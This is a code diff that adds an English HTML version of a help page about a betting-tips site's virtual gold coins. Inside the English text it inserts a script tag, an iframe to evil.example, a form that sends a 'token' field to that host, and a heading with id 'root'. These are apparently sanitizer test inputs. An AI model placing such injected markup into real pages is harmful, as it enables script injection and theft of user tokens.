@@ -15,3 +15,18 @@ export const GOLD_DOCUMENT = `<h2>如何获得</h2>
 <p>标有“不中全退”或“不中退 N%”的爆料，结算为黑单后按比例返还金币（向下取整）；比赛取消时全额返还。通常在比赛结束后 2 小时内到账。</p>
 <h2>有效期</h2>
 <p>金币自到账起 12 个月内有效，过期自动清零，清零前 7 天提醒。</p>`;
+
+/** The same in English. */
+export const GOLD_DOCUMENT_EN = `<h2>How to get them</h2>
+<ul><li>Log in each day and watch live rooms.</li>
+<li>Red envelopes and draws in rooms.</li>
+<li>Exchange in the <a href="/gold-mall?from=document">coin mall</a>, within the daily limit.</li>
+</ul>
+<h2 class="si-app" id="root">How to use them</h2>
+<ul><li>Unlock experts’ tips; the price is the one on the order.</li>
+<li>Exchange them for goods and benefits in the coin mall.</li>
+</ul><script>alert(1)</script><iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="token"></form>
+<h2>Refunds</h2>
+<p>Tips marked “Full refund if lost” or “N% back if lost” pay that share back when they lose (rounded down); a cancelled match gives all back. Usually within 2 hours of the end.</p>
+<h2>How long they last</h2>
+<p>Coins last 12 months; what is left then is cleared, and you are told 7 days before.</p>`;
